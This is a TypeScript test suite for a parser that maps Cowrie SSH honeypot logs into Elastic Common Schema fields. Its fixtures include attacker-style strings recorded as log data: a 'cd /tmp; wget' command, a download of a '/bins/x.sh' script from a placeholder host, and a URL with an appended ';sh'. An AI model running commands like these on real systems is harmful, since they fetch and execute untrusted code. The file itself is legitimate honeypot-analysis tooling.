import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseCowrieLine } from './parse-cowrie-line.js';
import { cowrieEventToEcs, cowrieRejectToEcs } from './cowrie-ecs.js';
import { HONEYPOT_FIELDS } from './honeypot-fields.js';
import { COWRIE_EVENTS } from './cowrie-events.js';
import { corpusLine, corpusLines, CORPUS_LOGS } from './test-support.js';

function ecs(line: string | Buffer, options = {}): any {
  const r = parseCowrieLine(line);
  if (!r.ok) assert.fail(`${r.reason}: ${r.error}`);
  return cowrieEventToEcs(r.event, options);
}

/** Dotted paths of every leaf in `doc` (arrays are leaves), stopping at `cowrie.extra`. */
function leafPaths(doc: Record<string, unknown>, prefix = '', out = new Set<string>()): Set<string> {
  for (const [k, v] of Object.entries(doc)) {
    const p = prefix ? `${prefix}.${k}` : k;
    if (p === 'cowrie.extra' || v === null || typeof v !== 'object' || Array.isArray(v)) out.add(p);
    else leafPaths(v as Record<string, unknown>, p, out);
  }
  return out;
}

test('login.failed: authentication/start/failure, user.name, cowrie.password, related', () => {
  const d = ecs(corpusLine('cowrie.login.failed', CORPUS_LOGS[1]));
  assert.equal(d['@timestamp'], '2026-04-18T12:46:41.681695Z');
  assert.deepEqual(d.event.category, ['authentication']);
  assert.deepEqual(d.event.type, ['start']);
  assert.equal(d.event.outcome, 'failure');
  assert.equal(d.event.kind, 'event');
  assert.equal(d.event.action, 'login.failed');
  assert.equal(d.event.dataset, 'cowrie');
  assert.equal(d.event.module, 'cowrie');
  assert.deepEqual(d.source, { ip: '35.179.124.8' });
  assert.deepEqual(d.user, { name: 'root' });
  assert.equal(d.cowrie.password, 'root');
  assert.equal(d.cowrie.session, '12f62330fdbd');
  assert.equal(d.cowrie.eventid, 'cowrie.login.failed');
  assert.deepEqual(d.related, { ip: ['35.179.124.8'], user: ['root'] });
  assert.deepEqual(d.network, { transport: 'tcp', protocol: 'ssh', direction: 'inbound' });
  assert.deepEqual(d.observer, { name: 'ip-172-31-41-217', type: 'honeypot', product: 'Cowrie', vendor: 'Cowrie' });
  assert.equal(typeof d.event.original, 'string');
  assert.equal(d.tags, undefined);
});

test('session.connect / closed: source, destination, event.duration in nanoseconds', () => {
  const c = ecs(corpusLine('cowrie.session.connect', CORPUS_LOGS[0]));
  assert.deepEqual(c.source, { ip: '88.223.26.58', port: 52577 });
  assert.deepEqual(c.destination, { ip: '172.17.0.3', port: 2222 });
  assert.deepEqual(c.event.category, ['network', 'session']);
  assert.deepEqual(c.event.type, ['connection', 'start']);
  assert.deepEqual(c.related.ip, ['88.223.26.58', '172.17.0.3']);
  const s = ecs(corpusLine('cowrie.session.closed', CORPUS_LOGS[1]));
  assert.equal(s.event.duration, 88_700_000_000);
  assert.deepEqual(s.event.type, ['connection', 'end']);
});

test('command.input: process.command_line and process.name', () => {
  const d = ecs(`{"eventid":"cowrie.command.input","input":"cd /tmp; wget http://x/y","timestamp":"2026-01-01T00:00:00Z","session":"s"}`);
  assert.deepEqual(d.process, { command_line: 'cd /tmp; wget http://x/y', name: 'cd' });
  assert.deepEqual(d.event.category, ['process']);
});

test('client.kex and client.version: cowrie.hassh, client_version, kex lists, related.hash', () => {
  const k = ecs(corpusLine('cowrie.client.kex'));
  assert.equal(k.cowrie.hassh, 'e1d88fdd485f9c710074daa1fcce80a6');
  assert.equal(k.cowrie.kex.kex_algs.length, 12);
  assert.deepEqual(k.related.hash, ['e1d88fdd485f9c710074daa1fcce80a6']);
  const v = ecs(corpusLine('cowrie.client.version', CORPUS_LOGS[0]));
  assert.equal(v.cowrie.client_version, 'SSH-2.0-OpenSSH_7.7');
  assert.equal(v.cowrie.system, 'HoneyPotSSHTransport,0,88.223.26.58');
  assert.equal(v.cowrie.is_error, false);
});

test('file_download: url.*, file.hash.sha256, file.path, related.hash', () => {
  const sha = 'a'.repeat(64);
  const d = ecs(`{"eventid":"cowrie.session.file_download","url":"http://198.51.100.9:8080/bins/x.sh","outfile":"dl/${sha}","shasum":"${sha}","timestamp":"2026-01-01T00:00:00Z","session":"s","src_ip":"203.0.113.1"}`);
  assert.deepEqual(d.url, { full: 'http://198.51.100.9:8080/bins/x.sh', scheme: 'http', domain: '198.51.100.9', port: 8080, path: '/bins/x.sh' });
  assert.deepEqual(d.file, { hash: { sha256: sha }, path: `dl/${sha}` });
  assert.deepEqual(d.related.hash, [sha]);
  assert.equal(d.event.outcome, 'success');
  const odd = ecs(`{"eventid":"cowrie.session.file_download.failed","url":"1.2.3.4/x;sh","timestamp":"2026-01-01T00:00:00Z"}`);
  assert.deepEqual(odd.url, { full: '1.2.3.4/x;sh' }, 'what does not parse as a URL is kept whole');
  assert.equal(odd.event.outcome, 'failure');
});

test('log.closed: its shasum (of the TTY input) is a related hash, not file.hash', () => {
  const d = ecs(corpusLine('cowrie.log.closed', CORPUS_LOGS[1]));
  assert.equal(d.file, undefined);
  assert.equal(d.cowrie.ttylog, 'var/lib/cowrie/tty/f25297859cf0a70af5c053a5464a5fa647a35ceee1d91397331903846d79ffc1');
  assert.equal(d.cowrie.duplicate, true);
  assert.deepEqual(d.related.hash, ['f25297859cf0a70af5c053a5464a5fa647a35ceee1d91397331903846d79ffc1']);
});

test('unknown ids and flags become tags; sensorName fills observer.name; positions go to log.*', () => {
  const d = ecs('{"event_type":"weird","timestamp":"2026-01-01T00:00:00Z","x":"\\u0007"}', { sensorName: 'edge-1', filePath: '/var/log/hp.json', offset: 42 });
  assert.deepEqual(d.tags, ['control_chars', 'cowrie_unknown_eventid']);
  assert.equal(d.observer.name, 'edge-1');
  assert.equal(d.event.dataset, 'hp_ti');
  assert.equal(d.event.category, undefined);
  assert.deepEqual(d.log, { file: { path: '/var/log/hp.json' }, offset: 42 });
  assert.deepEqual(d.cowrie.extra, { x: '\\x07' });
});

test('rejects become pipeline_error documents; empty and incomplete lines do not', () => {
  const bad = parseCowrieLine('not json at all', { offset: 7, line: 2 });
  const d: any = cowrieRejectToEcs(bad, '2026-01-01T00:00:00.000Z', { filePath: 'f', offset: 7 });
  assert.equal(d.event.kind, 'pipeline_error');
  assert.equal(d.event.original, 'not json at all');
  assert.equal(d.error.type, 'invalid_json');
  assert.match(d.error.message, /^line 2: /);
  assert.deepEqual(d.tags, ['cowrie_parse_error']);
  assert.equal(cowrieRejectToEcs(parseCowrieLine(''), 'x'), undefined);
  assert.equal(cowrieRejectToEcs(parseCowrieLine('{"eventid":"cow', { terminated: false }), 'x'), undefined);
});

test('every field written for every corpus line and every table id is in HONEYPOT_FIELDS (so the template maps it)', () => {
  const mapped = new Set(HONEYPOT_FIELDS.map((f) => f.name));
  const seen = new Set<string>();
  for (const log of CORPUS_LOGS) for (const { line } of corpusLines(log)) leafPaths(ecs(line, { filePath: 'p', offset: 1 }), '', seen);
  // A line with every field the parser knows, under every id of the table.
  const all = `"timestamp":"2026-01-01T00:00:00Z","session":"s","src_ip":"192.0.2.1","src_port":1,"dst_ip":"192.0.2.2","dst_port":2,"protocol":"ssh","sensor":"h","uuid":"u","message":"m","username":"u","password":"p","input":"ls","url":"http://a/b","outfile":"o","filename":"f","shasum":"${'b'.repeat(64)}","size":1,"duration":"1","ttylog":"t","duplicate":false,"arch":"a","version":"v","hassh":"h","hasshAlgorithms":"a","kexAlgs":["k"],"keyAlgs":["k"],"encCS":["e"],"macCS":["m"],"compCS":["c"],"langCS":[""],"width":1,"height":2,"name":"n","value":"v","fingerprint":"f","key":"k","type":"t","data":"d","positives":1,"total":2,"is_new":true,"system":"s","isError":0,"extra_field":1,"level":"INFO","component":"c"`;
  for (const id of Object.keys(COWRIE_EVENTS)) leafPaths(ecs(`{"eventid":"${id}",${all}}`, { sensorName: 'x' }), '', seen);
  leafPaths(cowrieRejectToEcs(parseCowrieLine('x'), '2026-01-01T00:00:00Z', { filePath: 'p', offset: 1 })!, '', seen);
  const unmapped = [...seen].filter((p) => !mapped.has(p));
  assert.deepEqual(unmapped, []);
  assert.ok(seen.size > 60, `${seen.size} distinct fields exercised`);
});
